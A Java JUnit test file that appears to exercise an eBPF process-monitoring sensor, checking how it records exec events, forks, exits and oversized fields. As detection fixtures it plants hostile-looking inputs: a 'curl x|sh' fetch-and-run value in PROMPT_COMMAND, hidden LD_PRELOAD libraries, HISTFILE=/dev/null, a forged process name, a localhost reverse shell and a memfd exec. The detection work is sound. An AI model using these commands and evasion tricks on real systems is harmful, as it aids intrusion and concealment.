package dev.vigil.sensor;

import dev.vigil.event.Event;
import dev.vigil.event.EventType;
import dev.vigil.event.ExecEvent;
import dev.vigil.event.TaskEvent;
import dev.vigil.event.Text;
import org.junit.jupiter.api.Test;

import java.nio.charset.StandardCharsets;
import java.util.List;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** process.bpf.c: exec (every route), failed exec, fork/exit, reverse shells, memfd exec. */
class ProcessBpfTest {
    @Test
    void execCarriesHostileArgvIntact() throws Exception {
        LiveSensor s = LiveSensor.get();
        byte[] nonUtf8 = {'x', (byte) 0xff, (byte) 0xfe, 'y'};
        String arg3 = new String(nonUtf8, StandardCharsets.ISO_8859_1);
        Process p = new ProcessBuilder("/bin/echo", "two words", "line\nbreak", "\u001b[31mred").start();
        p.waitFor();
        ExecEvent e = (ExecEvent) s.await("execve of echo", ev -> ev instanceof ExecEvent x && x.header().pid() == p.pid()
                && x.filename().equals("/bin/echo"));
        assertEquals(List.of("/bin/echo", "two words", "line\nbreak", "\u001b[31mred"), e.args());
        assertEquals("/usr/bin/echo", e.exe());
        assertEquals("/bin/echo", e.filename());
        assertFalse(e.argvTruncated());
        assertEquals(System.getProperty("user.dir"), e.runPath());
        assertTrue(e.pidTree().elkeid().startsWith(p.pid() + ".echo<" + ProcessHandle.current().pid() + "."), e.pidTree().elkeid());
        assertEquals(0, e.header().res());

        // Bytes that are not UTF-8 survive the trip and can be recovered exactly.
        Process q = new ProcessBuilder("/bin/sh", "-c", "exec /bin/true \"$(printf 'x\\377\\376y')\"").start();
        q.waitFor();
        ExecEvent t = (ExecEvent) s.await("execve of true", ev -> ev instanceof ExecEvent x && x.header().pid() == q.pid()
                && x.exe().endsWith("/true"));
        assertArrayEquals(nonUtf8, Text.encode(t.args().get(1)), arg3);
    }

    @Test
    void programsCountTheirRunsAfterTheCopiesThatLoadedThemAreClosed() throws Exception {
        LiveSensor s = LiveSensor.get();
        boolean wasOn = dev.vigil.bpf.RunStats.enable();
        try {
            long before = execRuns(s);
            Process p = new ProcessBuilder("/bin/true").start();
            p.waitFor();
            s.await("execve of true", ev -> ev instanceof ExecEvent x && x.header().pid() == p.pid());
            assertTrue(execRuns(s) > before, "process__exec's run count did not move");
        } finally {
            dev.vigil.bpf.RunStats.restore(wasOn);
        }
    }

    private static long execRuns(LiveSensor s) {
        return s.stream().sensor().programStats().stream().filter(r -> r.program().equals("process__exec"))
                .mapToLong(dev.vigil.bpf.RunStats::runs).sum();
    }

    @Test
    void failedExecIsReportedWithItsError() throws Exception {
        LiveSensor s = LiveSensor.get();
        Process p = new ProcessBuilder("/bin/sh", "-c", "/nonexistent/vigil-nope arg1; true").start();
        p.waitFor();
        ExecEvent e = (ExecEvent) s.await("failed execve", ev -> ev instanceof ExecEvent x && x.header().res() == -2
                && x.filename().equals("/nonexistent/vigil-nope"));
        assertEquals(List.of("/nonexistent/vigil-nope", "arg1"), e.args());
    }

    @Test
    void longArgvIsCutAndFlagged() throws Exception {
        LiveSensor s = LiveSensor.get();
        String big = "A".repeat(6000);
        Process p = new ProcessBuilder("/bin/true", big).start();
        p.waitFor();
        ExecEvent e = (ExecEvent) s.await("execve with long argv", ev -> ev instanceof ExecEvent x && x.header().pid() == p.pid()
                && x.filename().equals("/bin/true"));
        assertTrue(e.argvTruncated());
        assertTrue(e.argv().length() <= SensorOptions.DEFAULT_ARGV_MAX);
    }

    @Test
    void reverseShellShowsItsSocketAndPeer() {
        LiveSensor s = LiveSensor.get();
        LiveSensor.Triggered t = LiveSensor.trigger("revshell");
        int listenPort = t.outInt(0), shellPid = t.outInt(1);
        ExecEvent e = (ExecEvent) s.await("execve of sh on a socket", ev -> ev instanceof ExecEvent x && x.header().pid() == shellPid);
        assertTrue(e.stdin().startsWith("socket:["), e.stdin());
        assertEquals(e.stdin(), e.stdout());
        assertEquals("127.0.0.1", e.peer().dip());
        assertEquals(listenPort, e.peer().dport());
        assertEquals(shellPid, e.socketPid());
        assertEquals(List.of("sh", "-i"), e.args());
    }

    @Test
    void execFromMemfdNamesTheMemfd() {
        LiveSensor s = LiveSensor.get();
        LiveSensor.Triggered t = LiveSensor.trigger("memfd-exec");
        ExecEvent e = (ExecEvent) s.await("execve of a memfd", ev -> ev instanceof ExecEvent x && x.header().ppid() == t.pid());
        assertEquals("/memfd:vigil-memfd", e.exe());
        assertTrue(e.exeFromMemfd());
        assertEquals("/dev/fd/3", e.filename());
    }

    @Test
    void forkAndExitKeepTheProcessCache() throws Exception {
        LiveSensor s = LiveSensor.get();
        Process p = new ProcessBuilder("/bin/sh", "-c", "/bin/true; exit 3").start();
        p.waitFor();
        Event exit = s.await("exit", ev -> ev.type() == EventType.EXIT && ev.header().pid() == p.pid());
        assertEquals(3 << 8, ((TaskEvent.Exit) exit).exitCode());
        s.await("exit_group", ev -> ev.type() == EventType.EXIT_GROUP && ev.header().pid() == p.pid());
        // The agent's own forks are filtered in the kernel; the shell's fork of true is not.
        s.await("fork", ev -> ev.type() == EventType.FORK && ev.header().ppid() == p.pid());
    }

    /** With its hook off, as by default, a fork sends no record: the process cache learns a process from its exec. */
    @Test
    void noForkRecordWhileItsHookIsOff() throws Exception {
        LiveSensor s = LiveSensor.get();
        Sensor sensor = s.stream().sensor();
        sensor.switchHook(EventType.FORK, false);
        try {
            Process p = new ProcessBuilder("/bin/sh", "-c", "/bin/true; /bin/true; /bin/echo vigil-fork-marker").start();
            p.waitFor();
            s.await("the marker's exec", ev -> ev instanceof ExecEvent x && (x.header().pid() == p.pid() || x.header().ppid() == p.pid())
                    && x.args().contains("vigil-fork-marker"));
            assertEquals(2, s.all(ev -> ev instanceof ExecEvent x && x.header().ppid() == p.pid() && x.exe().endsWith("/true")).size(),
                    "the shell forked twice");
            assertTrue(s.all(ev -> ev.type() == EventType.FORK && ev.header().ppid() == p.pid()).isEmpty(), "and sent no fork record");
        } finally {
            sensor.switchHook(EventType.FORK, true);
        }
    }

    @Test
    void preloadAndSshConnectionComeFromTheEnvironment() throws Exception {
        LiveSensor s = LiveSensor.get();
        ProcessBuilder pb = new ProcessBuilder("/bin/true", "env-test");
        pb.environment().put("LD_PRELOAD", "/tmp/vigil-not-a-lib.so");
        pb.environment().put("SSH_CONNECTION", "10.9.8.7 51234 10.0.0.1 22");
        for (int i = 0; i < 300; i++) {
            pb.environment().put("VIGIL_PAD_" + i, "x".repeat(40));
        }
        Process p = pb.start();
        p.waitFor();
        ExecEvent e = (ExecEvent) s.await("execve with env", ev -> ev instanceof ExecEvent x && x.header().pid() == p.pid()
                && x.filename().equals("/bin/true"));
        assertEquals("/tmp/vigil-not-a-lib.so", e.ldPreload());
        assertEquals("10.9.8.7 51234 10.0.0.1 22", e.ssh());
    }

    @Test
    void aCommShapedLikeAnAncestorForgesNothing() throws Exception {
        LiveSensor s = LiveSensor.get();
        java.nio.file.Path dir = java.nio.file.Files.createTempDirectory("vigil-forge");
        java.nio.file.Path fake = dir.resolve("x<1.init<2.k");
        java.nio.file.Files.createSymbolicLink(fake, java.nio.file.Path.of("/bin/sh"));
        Process p = new ProcessBuilder(fake.toString(), "-c", "/bin/true; exit 0").start();
        p.waitFor();
        ExecEvent e = (ExecEvent) s.await("execve of true under a forged comm", ev -> ev instanceof ExecEvent x
                && x.header().ppid() == p.pid() && x.exe().endsWith("/true"));
        var nodes = e.pidTree().nodes();
        assertEquals(p.pid(), nodes.get(1).pid(), "the parent is the shell, whatever its comm says");
        assertEquals("x<1.init<2.k", nodes.get(1).comm());
        assertEquals(ProcessHandle.current().pid(), nodes.get(2).pid(), "the grandparent is this JVM, not pid 1");
        java.util.Map<String, Object> json = LiveSensor.fields(e);
        @SuppressWarnings("unchecked")
        var ancestors = (List<java.util.Map<String, Object>>) json.get("ancestors");
        assertEquals(ProcessHandle.current().pid(), ancestors.get(2).get("pid"));
    }

    /** Attacker-sized fields (argv, LD_PRELOAD, a 4000-byte path) fill the record: it is cut, never wrapped onto its header. */
    @Test
    void oversizedFieldsNeverOverwriteTheRecordHeader() throws Exception {
        LiveSensor s = LiveSensor.get();
        java.nio.file.Path dir = java.nio.file.Files.createTempDirectory("vigil-long");
        for (int i = 0; i < 15; i++) {
            dir = dir.resolve("d".repeat(250));
        }
        java.nio.file.Files.createDirectories(dir);
        java.nio.file.Path exe = dir.resolve("true");
        java.nio.file.Files.createSymbolicLink(exe, java.nio.file.Path.of("/bin/true"));
        String big = "A".repeat(3000);
        ProcessBuilder pb = new ProcessBuilder(exe.toString(), big, big, big);
        pb.environment().put("LD_PRELOAD", "/nonexistent/" + "B".repeat(4000));
        pb.environment().put("SSH_CONNECTION", "C".repeat(4000));
        pb.redirectErrorStream(true);
        Process p = pb.start();
        p.getInputStream().readAllBytes();
        p.waitFor();
        ExecEvent e = (ExecEvent) s.await("oversized exec", ev -> ev instanceof ExecEvent x && x.header().pid() == p.pid()
                && x.header().res() == 0 && x.exe().endsWith("/true"));
        assertEquals(0, e.header().uid());
        assertEquals(ProcessHandle.current().pid(), e.header().ppid());
        assertTrue(e.argvTruncated(), "argv is longer than --argv-max: cut and flagged");
        assertTrue(e.exe().endsWith("/true"), e.exe());

        // a failed exec with many large arguments: its record is built at sys_exit from the caller's memory
        java.util.List<String> cmd = new java.util.ArrayList<>(java.util.List.of("/bin/sh", "-c", "exec \"$0\" \"$@\"; exit 0",
                dir.resolve("missing").toString()));
        for (int i = 0; i < 20; i++) {
            cmd.add("E".repeat(1000));
        }
        Process f = new ProcessBuilder(cmd).redirectErrorStream(true).start();
        f.getInputStream().readAllBytes();
        f.waitFor();
        ExecEvent failed = (ExecEvent) s.await("oversized failed exec", ev -> ev instanceof ExecEvent x && x.header().pid() == f.pid()
                && x.header().res() == -2);
        assertEquals(ProcessHandle.current().pid(), failed.header().ppid(), "the header is the kernel's, not argument bytes");
        assertTrue(failed.argvTruncated());
    }

    @Test
    void theEnvironmentAtExecByEitherRoute() throws Exception {
        LiveSensor s = LiveSensor.get();
        ProcessBuilder pb = new ProcessBuilder("/bin/true");
        pb.environment().clear();
        pb.environment().put("PROMPT_COMMAND", "curl x|sh");
        pb.environment().put("LD_LIBRARY_PATH", "/tmp/.x");
        Process p = pb.start();
        p.waitFor();
        ExecEvent e = (ExecEvent) s.await("exec with an environment", ev -> ev instanceof ExecEvent x && x.header().pid() == p.pid()
                && x.exe().endsWith("/true"));
        assertTrue(e.env().contains("PROMPT_COMMAND=curl x|sh") && e.env().contains("LD_LIBRARY_PATH=/tmp/.x"), e.env().toString());
        assertFalse(e.envTruncated());

        LiveSensor.Triggered t = LiveSensor.trigger("fexecve-env");
        int child = t.outInt(0);
        ExecEvent f = (ExecEvent) s.await("fexecve with an environment", ev -> ev instanceof ExecEvent x && x.header().pid() == child);
        assertEquals(List.of("GLIBC_TUNABLES=glibc.malloc.check=3", "HISTFILE=/dev/null"), f.env());

        // past the cap: cut and flagged; LD_PRELOAD is still found wherever it is
        ProcessBuilder big = new ProcessBuilder("/bin/true");
        big.environment().clear();
        big.environment().put("A_PADDING", "p".repeat(6000));
        big.environment().put("ZZ_LD", "1");
        big.environment().put("LD_PRELOAD", "/tmp/.hidden.so");
        big.redirectErrorStream(true);
        Process q = big.start();
        q.getInputStream().readAllBytes();
        q.waitFor();
        ExecEvent g = (ExecEvent) s.await("exec with a large environment", ev -> ev instanceof ExecEvent x && x.header().pid() == q.pid()
                && x.exe().endsWith("/true"));
        assertTrue(g.envTruncated());
        assertEquals("/tmp/.hidden.so", g.ldPreload());
    }

    @Test
    void scriptsLoaderRunsAndDeletedExecutables() throws Exception {
        LiveSensor s = LiveSensor.get();
        java.nio.file.Path dir = java.nio.file.Files.createTempDirectory("vigil-script");
        java.nio.file.Path script = dir.resolve("job.sh");
        java.nio.file.Files.writeString(script, "#!/bin/sh\nexit 0\n");
        script.toFile().setExecutable(true);
        Process relative = new ProcessBuilder("./job.sh").directory(dir.toFile()).start();
        relative.waitFor();
        ExecEvent r = (ExecEvent) s.await("exec of a #! script", ev -> ev instanceof ExecEvent x && x.header().pid() == relative.pid()
                && x.exe().endsWith("sh") && !x.exe().contains("jspawnhelper"));
        assertEquals(script.toString(), LiveSensor.fields(r).get("script"), "made absolute against the working directory");
        Process absolute = new ProcessBuilder(script.toString()).start();
        absolute.waitFor();
        ExecEvent a = (ExecEvent) s.await("exec of a #! script by its path", ev -> ev instanceof ExecEvent x
                && x.header().pid() == absolute.pid() && x.exe().endsWith("sh") && !x.exe().contains("jspawnhelper"));
        assertEquals(script.toString(), LiveSensor.fields(a).get("script"));

        java.nio.file.Path plain = dir.resolve("plain");
        java.nio.file.Files.copy(java.nio.file.Path.of("/bin/true"), plain);
        java.nio.file.Files.setPosixFilePermissions(plain, java.nio.file.attribute.PosixFilePermissions.fromString("rw-r--r--"));
        String loader = java.nio.file.Files.exists(java.nio.file.Path.of("/lib64/ld-linux-x86-64.so.2")) ? "/lib64/ld-linux-x86-64.so.2"
                : "/lib/ld-linux-aarch64.so.1";
        Process viaLoader = new ProcessBuilder(loader, plain.toString()).start();
        viaLoader.waitFor();
        ExecEvent l = (ExecEvent) s.await("exec through the loader", ev -> ev instanceof ExecEvent x && x.header().pid() == viaLoader.pid()
                && x.exe().contains("ld-linux"));
        assertEquals(plain.toString(), LiveSensor.fields(l).get("loader_target"));
        assertFalse(LiveSensor.fields(l).containsKey("script"));

        LiveSensor.Triggered t = LiveSensor.trigger("exec-deleted", dir.resolve("gone").toString());
        int child = t.outInt(0);
        ExecEvent d = (ExecEvent) s.await("exec of a deleted file", ev -> ev instanceof ExecEvent x && x.header().pid() == child);
        assertEquals(Boolean.TRUE, LiveSensor.fields(d).get("exe_deleted"));
        assertEquals(Boolean.FALSE, LiveSensor.fields(r).get("exe_deleted"));
    }
}
